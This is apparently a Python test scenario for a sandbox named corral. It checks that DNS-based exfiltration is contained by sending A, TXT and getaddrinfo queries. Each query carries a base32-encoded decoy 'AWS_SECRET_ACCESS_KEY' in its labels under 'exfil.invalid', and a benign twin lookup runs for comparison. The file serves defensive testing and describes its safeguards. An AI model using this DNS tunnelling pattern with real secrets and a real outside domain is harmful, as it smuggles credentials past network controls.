"""dns-exfil: carrying data out in DNS names.

Attack: 24 queries whose labels are a decoy secret, base32-encoded in
chunks (long, high-entropy labels), under `exfil.invalid`, asked of the
sandbox's resolver (127.0.0.1:53 inside): A and TXT (where DNS tunnels
live), then once more through libc (`getaddrinfo`, whatever
/etc/resolv.conf says).
Twin: a lookup of the runner's allowed name (short, plain labels).

Safe: the data is a random decoy; `.invalid` never resolves (RFC 6761);
the runner checks, before the program starts, that the policy does not let
names under `exfil.invalid` reach the host's resolver (otherwise it does
not run the scenario and reports it as not contained), so every query is
answered (NXDOMAIN) inside corral and none leaves the machine.

Contained: no query was answered from outside (every one NXDOMAIN or no
resolver at all), or corral ended the run on a finding (`exfil.*`).
"""

import base64
import os
import socket

import corral_scenario as cs


def chunks():
    secret = b"AWS_SECRET_ACCESS_KEY=" + base64.b64encode(os.urandom(60))
    encoded = base64.b32encode(secret).decode().rstrip("=").lower()
    return [encoded[i : i + 52] for i in range(0, len(encoded), 52)]


def attack():
    cs.begin()
    parts = chunks()

    def burst(qtype, label):
        answered, refused, last = 0, 0, ""
        for n in range(12):
            chunk = parts[n % len(parts)]
            name = "%s.%d.%s.exfil.invalid" % (chunk, n, cs.TOKEN.replace("-", "")[:20].lower())
            rcode, answers, text = cs.dns_query(name, qtype)
            if rcode == 0:
                answered += 1
            else:
                refused += 1
                last = "rcode %d%s" % (rcode, (": " + text) if text else "")
        if answered:
            return "%d of 12 %s queries answered from outside" % (answered, label)
        raise cs.Refused("12 of 12 %s queries refused, e.g. %s" % (label, last), by="resolver")

    cs.attempt("12 A queries of high-entropy labels under exfil.invalid via 127.0.0.1:53",
               lambda: burst(1, "A"))
    cs.attempt("12 TXT queries of high-entropy labels under exfil.invalid via 127.0.0.1:53",
               lambda: burst(16, "TXT"))

    def libc():
        name = "%s.libc.exfil.invalid" % parts[0]
        try:
            socket.getaddrinfo(name, 80)
        except socket.gaierror as e:
            raise cs.Refused("getaddrinfo: %s" % e.strerror, by="resolver")
        return "resolved"

    cs.attempt("getaddrinfo of a high-entropy name under exfil.invalid", libc)
    cs.end()


def twin():
    cs.begin()
    host, _ = cs.target("web")

    cs.attempt("resolve %s via 127.0.0.1:53" % host, lambda: cs.resolve(host))
    cs.attempt("getaddrinfo(%s)" % host, lambda: socket.getaddrinfo(host, 80)[0][4][0])
    cs.end()


if __name__ == "__main__":
    attack() if cs.MODE == "attack" else twin()
